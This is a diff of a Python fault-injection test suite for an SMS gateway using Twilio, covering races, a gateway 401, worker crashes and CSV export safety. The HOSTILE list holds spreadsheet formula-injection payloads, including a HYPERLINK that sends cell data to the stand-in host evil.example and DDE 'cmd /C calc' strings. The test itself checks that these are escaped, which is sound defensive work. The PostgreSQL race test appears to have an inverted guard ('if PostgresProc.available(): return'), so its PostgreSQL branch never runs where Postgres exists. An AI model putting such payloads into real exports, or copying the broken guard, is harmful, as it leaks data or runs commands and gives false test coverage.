@@ -4,8 +4,13 @@ suite prints fault, trials, confirmed, stored, SMS sent, duplicates, lost — lo
 
 from __future__ import annotations
 
+import csv
+import io
 import os
 import signal
+import subprocess
+import sys
+import threading
 import time
 import uuid
 from collections.abc import Iterator
@@ -17,6 +22,7 @@ import pytest
 import requests
 from rq.registry import FailedJobRegistry
 
+from sms_gateway.outbox import UNFINISHED
 from sms_gateway.procs import wait_until
 from sms_gateway.runtime import catalogue
 from tests.faults.procs import (
@@ -31,6 +37,7 @@ from tests.faults.procs import (
     table,
     tally,
 )
+from tests.faults.races import decided_row, deciders, race
 from tests.support.stack import ACCOUNT_SID, AUTH_TOKEN, Stack, free_port, set_config, write_config
 
 pytestmark = pytest.mark.faults
@@ -93,7 +100,7 @@ def settle(ledger: Ledger, group: list[str], expected: int, timeout: float = 60)
     wait_until(
         lambda: (
             len(ledger.stored(group)) >= expected
-            and sum(s != "pending" for s in ledger.outbound_status(group).values()) >= expected
+            and sum(s not in UNFINISHED for s in ledger.outbound_status(group).values()) >= expected
         ),
         timeout,
         0.2,
@@ -358,6 +365,77 @@ def test_outside_systems_down_then_slow(world, tmp_path: Path) -> None:
         record(row)
 
 
+def test_two_deciders_at_once(world, tmp_path: Path) -> None:
+    """Two copies of the follow-up of each request racing, on SQLite and (when it can run here) PostgreSQL."""
+    stack, _, twilio, _ = world
+    sqlite = f"sqlite:///{tmp_path / 'race.db'}"
+    group = phones(5)
+    with deciders(tmp_path / "sqlite", stack.config, sqlite, twilio.url) as services:
+        race(services, group)
+        ledger = Ledger(sqlite, twilio)
+        record(decided_row("two deciders at once (SQLite)", ledger, group))
+        ledger.engine.dispose()
+    if PostgresProc.available():
+        return
+    pg = PostgresProc(Path("/tmp") / f"kontor-faults-race-{os.getpid()}")
+    try:
+        pg.init()
+        group = phones(5)
+        with deciders(tmp_path / "pg", stack.config, pg.url, twilio.url) as services:
+            race(services, group)
+            ledger = Ledger(pg.url, twilio)
+            record(decided_row("two deciders at once (PostgreSQL)", ledger, group))
+            ledger.engine.dispose()
+    finally:
+        pg.destroy()
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"bill")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"]
+
+
+def test_hostile_export_cells(world) -> None:
+    """Formulas written as the description through the real webhook are exported as text, not live formulas."""
+    stack, _, _, ledger = world
+    group = phones(len(HOSTILE))
+    for phone, hostile in zip(group, HOSTILE, strict=True):
+        for body in ["READ", *SINGLE[:4], hostile, SINGLE[5]]:
+            stack.sms(phone, body)
+    confirmed = sum(confirm(stack, p) for p in group)
+    settle(ledger, group, confirmed)
+    argv = [sys.executable, "-m", "sms_gateway.cli", "requests", "export", "--format", "csv", "--config"]
+    out = subprocess.run([*argv, str(stack.config)], capture_output=True, text=True, timeout=60, check=True).stdout
+    rows = [r for r in csv.DictReader(io.StringIO(out)) if any(r["mobile"].endswith(p[-4:]) for p in group)]
+    cells = [r["description"] for r in rows]
+    assert len(cells) == len(HOSTILE) and all(c.startswith("'") and c[1] in "=+@" for c in cells), cells
+    row = tally(Row("hostile export cells", len(group)), ledger, group, confirmed)
+    row.note = f"{len(cells)} formula descriptions exported with a leading apostrophe"
+    record(row)
+
+
+def test_a_401_from_the_gateway_then_fixed(world, tmp_path: Path) -> None:
+    """A rotated token: every send refused 401 / 20003 for 6 s, then accepted; each tracking SMS arrives once."""
+    _, server, twilio, _ = world
+    database = f"sqlite:///{tmp_path / 'auth' / 'kontor.db'}"
+    with side_stack(tmp_path / "auth", server, twilio, database, "auth") as stack:
+        ledger = Ledger(database, twilio)
+        group = phones(3)
+        for phone in group:
+            to_confirm(stack, phone)
+        twilio.refuse_until = time.monotonic() + 6
+        confirmed = sum(confirm(stack, p) for p in group)
+        time.sleep(2)
+        held = set(ledger.outbound_status(group).values())
+        assert "failed" not in held and "sent" not in held, held
+        settle(ledger, group, confirmed, 60)
+        row = tally(Row("a 401 from the gateway, then fixed", len(group)), ledger, group, confirmed)
+        refused = failures(stack, "adapters.senders.AccountError")
+        assert refused > 0, "no send was refused: the fault did not bite"
+        assert set(ledger.outbound_status(group).values()) == {"sent"}
+        row.note = f"held (pending) while refused; {refused} attempts refused, retried; never failed"
+        ledger.engine.dispose()
+        record(row)
+
+
 # Near the end on purpose: a Redis restart or a killed worker can leave RQ's retry scheduler idle for up to
 # minutes (see the report), so the faults that need quick retries run before them.
 def test_redis_restart_mid_dialog(world) -> None:
@@ -403,4 +481,35 @@ def test_worker_sigkill_mid_job(world) -> None:
     settle(ledger, group, confirmed, 60)  # the issue: within 60 s of the return
     row = tally(Row("worker SIGKILL mid-job", len(group)), ledger, group, confirmed)
     row.note = f"settled {time.monotonic() - restarted:.0f}s after restart"
+    record(row)
+
+
+def test_crash_between_the_send_and_the_commit(world) -> None:
+    """The worker killed right after the gateway accepted, before Kontor recorded it: found there, not resent."""
+    stack, _, twilio, ledger = world
+    group = phones(2)
+    for phone in group:
+        to_confirm(stack, phone)
+    quiet(ledger)
+    killed = threading.Event()
+
+    def kill(message: dict[str, str]) -> None:
+        if message["To"] in group and not killed.is_set():
+            killed.set()
+            os.killpg(stack.procs["worker"].pid, signal.SIGKILL)
+
+    twilio.on_accept = kill
+    try:
+        confirmed = sum(confirm(stack, p) for p in group)
+        assert killed.wait(20), "no tracking SMS reached the gateway"
+    finally:
+        twilio.on_accept = None
+    stack.procs.pop("worker").wait(10)
+    restarted = time.monotonic()
+    stack.start("worker")
+    settle(ledger, group, confirmed, 60)
+    row = tally(Row("crash between the send and the commit", len(group)), ledger, group, confirmed)
+    log = (stack.config.parent / "worker.log").read_text(errors="replace")
+    assert "already accepted by twilio" in log, "the resend was not reconciled with the gateway"
+    row.note = f"reconciled by Twilio's message list; settled {time.monotonic() - restarted:.0f}s after restart"
     record(row)
